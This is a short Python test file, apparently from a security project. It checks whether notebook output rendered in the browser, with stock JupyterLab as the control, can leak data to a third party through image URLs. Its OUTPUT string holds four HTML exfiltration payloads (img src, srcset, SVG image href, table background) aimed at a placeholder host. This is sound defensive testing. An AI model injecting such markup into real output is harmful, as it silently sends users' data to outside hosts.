"""Print pictures that a third party is asked for, the address being the data.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `img-src` lets no other origin in; from tier 2 on printed markup keeps no such element
"""

OUTPUT = """
<img src="THIRD/secret.png">
<img srcset="THIRD/secret-2.png 1x">
<svg><image href="THIRD/secret-3.png" width="9" height="9"/></svg>
<table background="THIRD/secret-4.png"><tr><td>.</td></tr></table>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
